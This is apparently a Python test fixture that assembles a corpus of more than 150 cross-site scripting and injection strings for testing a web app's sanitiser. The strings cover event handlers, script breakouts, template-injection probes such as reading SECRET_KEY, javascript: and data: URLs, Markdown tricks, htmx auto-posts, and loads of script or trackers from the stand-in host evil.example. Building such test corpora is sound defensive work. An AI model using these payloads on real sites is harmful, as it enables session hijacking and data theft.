"""What somebody might write to run a script, load something, or look like our controls: at least 150 different texts.

A text that runs anything calls `owned()`, which the pages of the test define; one that loads anything asks the host
`evil.example`. The vectors are those that browsers, Markdown, htmx and templates are known for.
"""

from __future__ import annotations

RUN = "owned()"
HOST = "evil.example"

_EVENTS = (
    f"<img src=x onerror={RUN}>", f'<img src=x onerror="{RUN}">', f"<img src=x onerror='{RUN}'>", f"<img/src=x/onerror={RUN}>",
    f"<img src onerror={RUN}//", f"<img src=x:x onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>", f"<img src=x onerror\n={RUN}>",
    f"<image src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributename=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=//{HOST}/x.js></script></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<body onload={RUN}>", f"<body onpageshow={RUN}>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<button autofocus onfocus={RUN}>x</button>", f"<a autofocus href onfocus={RUN}>x</a>",
    f"<video src=x onerror={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<video poster=x autoplay onloadstart={RUN}><source src=data:,></video>", f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>", f"<object data=javascript:{RUN}>", f"<object onerror={RUN} data=x>", f"<embed src=javascript:{RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe onload={RUN}></iframe>",
    f"<keygen autofocus onfocus={RUN}>", f"<style onload={RUN}></style>", f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<x contenteditable onblur={RUN}>x</x>", f"<x onmouseover={RUN} style=position:fixed;inset:0>x</x>", f"<p onpointerenter={RUN}>x",
    f"<div popover id=p onbeforetoggle={RUN}>x</div><button popovertarget=p>x</button>", f"<dialog open onclose={RUN}><form method=dialog><button>x",
    f"<div onanimationstart={RUN} class=skeleton>x</div>", f"<div ontransitionend={RUN} class=card>x</div>", f"<xss oncontentvisibilityautostatechange={RUN} style=content-visibility:auto>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math href=javascript:{RUN}>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<template><img src=x onerror={RUN}></template>", f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
)  # fmt: skip
_SCRIPTS = (
    f"<script>{RUN}</script>", f"<script >{RUN}</script >", f"<SCRIPT>{RUN}</SCRIPT>", f"<script src=//{HOST}/x.js></script>", f"<script/src=https://{HOST}/x.js></script>",
    f"<script type=module>{RUN}</script>", f"<script type=importmap>{{\"imports\":{{\"x\":\"//{HOST}\"}}}}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>/*<!--<script>*/{RUN}</script>", f"</script><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"</noscript><script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->",
    f"</template><script>{RUN}</script>", f"</select><script>{RUN}</script>", f"</option></datalist><script>{RUN}</script>", f"</svg><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>", f"\x0b<script>{RUN}</script>", f"\ufeff<script>{RUN}</script>", f"＜script＞{RUN}＜/script＞",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"%3Cscript%3E{RUN}%3C/script%3E", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\\u003cscript\\u003e{RUN}",
)  # fmt: skip
_BREAKOUTS = (
    f"\" onfocus={RUN} autofocus x=\"", f"' onfocus={RUN} autofocus x='", f"\" onmouseover=\"{RUN}", f"x\" onerror=\"{RUN}", f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>", f"\"/><svg onload={RUN}>", f"'-{RUN}-'", f"\"-{RUN}-\"", f"`-{RUN}-`", f"${{{RUN}}}", f"';{RUN};//", f"\\';{RUN};//", f"\");{RUN};//", f"*/{RUN}/*",
    f"{{{{ constructor.constructor('{RUN}')() }}}}", f"{{{{{RUN}}}}}", "{% include 'x' %}", "{% debug %}", "{{ settings.SECRET_KEY }}", "{{ request.user }}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"[[{RUN}]]",
    f"\r\nX-Evil: 1\r\n\r\n<script>{RUN}</script>", f"\u2028{RUN}\u2029", f"\u202e{RUN}", f"a\u0000b<script>{RUN}</script>".replace("\u0000", "\u0001"),
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"javascript://%0a{RUN}",
    f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+#{RUN}", f"//{HOST}/p", "/admin/", "/fleet/freeze", "#", "blob:x", "file:///etc/passwd", "about:blank",
)  # fmt: skip
_MARKDOWN = (
    *(f"[Sign in again]({address.strip()})" for address in _ADDRESSES), *(f"<{address}>" for address in _ADDRESSES[:3]),
    f"![x](https://{HOST}/track.png)", f"![x](x\" onerror=\"{RUN})", f"![x\" onerror=\"{RUN}](x)", f"[x](x \"a\" onclick=\"{RUN}\")", f"[x](<javascript:{RUN}>)", f"[x]: javascript:{RUN}\n[x]",
    f"[x](https://{HOST}/\"onclick=\"{RUN})", f"```html\n<script>{RUN}</script>\n```", f"```\"><script>{RUN}</script>\nx\n```", f"`<script>{RUN}</script>`", f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"> <script>{RUN}</script>", f"1. <img src=x onerror={RUN}>", f"# <svg onload={RUN}>", f"<b onclick={RUN}>x</b>", f"*<img src=x onerror={RUN}>*", f"<https://{HOST}/<script>{RUN}</script>>", f"\\<script>{RUN}\\</script>",
)  # fmt: skip
_IMITATIONS = (
    "<form action=/fleet/freeze method=post><button class='btn btn--primary'>Approve this text</button></form>", "<button class=btn data-dialog=freeze-dialog>Save</button>", "<div class=toast>The fleet is frozen</div>",
    "<a href=x hx-post=/fleet/freeze hx-trigger=load>c</a>", "<div hx-get=/rail hx-trigger=load hx-swap=outerHTML>x</div>", "<div data-hx-post=/fleet/freeze data-hx-trigger=load>x</div>", f"<div hx-on::load={RUN}>x</div>",
    f"<div hx-vals='js:{{x:{RUN}}}' hx-get=/rail hx-trigger=load>x</div>", "<b data-new-task class=btn style=position:fixed;inset:0>d</b>", "<i class='icon s-done'></i> Done", "<p data-watch=tasks data-src=/fleet/freeze>x</p>", "<a data-drawer=x data-call='POST /api/v1/fleet/freeze'>x</a>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>", f"<base href=https://{HOST}/>", f"<link rel=stylesheet href=https://{HOST}/x.css>", f"<link rel=preload as=image href=https://{HOST}/x.png>", f"<style>*{{background:url(https://{HOST}/x)}}</style>",
    f"<div style=\"background:url(https://{HOST}/x)\">x</div>", f"<img src=https://{HOST}/x.png>", f"<img srcset='https://{HOST}/x.png 1x'>", f"<picture><source srcset=https://{HOST}/x.png><img></picture>", f"<video src=https://{HOST}/x.mp4 autoplay></video>", f"<iframe src=https://{HOST}/></iframe>",
    f"<object data=https://{HOST}/x.swf></object>", f"<a ping=https://{HOST}/ href=x>x</a>", f"<svg><image href=https://{HOST}/x.png></svg>", f"<svg><use href=https://{HOST}/x.svg#a></use></svg>", f"<table background=https://{HOST}/x.png><td>x</table>", f"<input type=image src=https://{HOST}/x.png>",
    f"<form id=hx action=https://{HOST}/><input name=csrfmiddlewaretoken></form>", "<input name=attributes><input name=children>", "<img name=body><img name=cookie>", "<a id=htmx></a><a id=htmx name=config href=x></a>", "<plaintext>", "<xmp>x</xmp>", "<frameset onload=owned()>",
)  # fmt: skip

CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys((*_EVENTS, *_SCRIPTS, *_BREAKOUTS, *_ADDRESSES, *_MARKDOWN, *_IMITATIONS))
)
